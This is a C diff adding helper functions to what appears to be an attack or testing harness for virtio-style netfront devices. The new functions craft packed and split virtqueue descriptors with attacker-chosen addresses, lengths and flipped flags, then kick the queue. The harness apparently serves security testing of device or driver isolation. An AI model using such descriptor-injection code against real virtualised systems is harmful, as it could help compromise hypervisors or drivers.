@@ -298,3 +298,28 @@ void attack_offer(struct attack *attack, uint16_t head)
 	store_release(&ring->avail->idx, (uint16_t)(index + 1));
 	netfront_kick(netfront_tx(attack->evil, 0));
 }
+
+void attack_packed_desc(struct netfront_queue *queue, unsigned int ahead, uint64_t addr, uint32_t length,
+			uint16_t flags)
+{
+	const struct vq_driver_packed *vq = &queue->vq.packed;
+	uint16_t position = vq_driver_packed_position(vq, vq->avail_next + ahead);
+	unsigned int index = vring_packed_index(position);
+
+	vq->ring.desc[index].addr = addr;
+	store_release(vring_packed_word_at(&vq->ring, index),
+		      vring_packed_word_of(length, (uint16_t)ahead, flags ^ vring_packed_avail_flags(position)));
+}
+
+void attack_offer_buffer(struct attack *attack, unsigned int number, uint32_t size)
+{
+	struct netfront_queue *queue = netfront_tx(attack->evil, 0);
+
+	if (queue->vq.is_packed) {
+		attack_packed_desc(queue, 0, attack_buffer_addr(attack, number), size, 0);
+		netfront_kick(queue);
+		return;
+	}
+	attack_desc(attack_tx_ring(attack), number, attack_buffer_addr(attack, number), size, 0, 0);
+	attack_offer(attack, (uint16_t)number);
+}
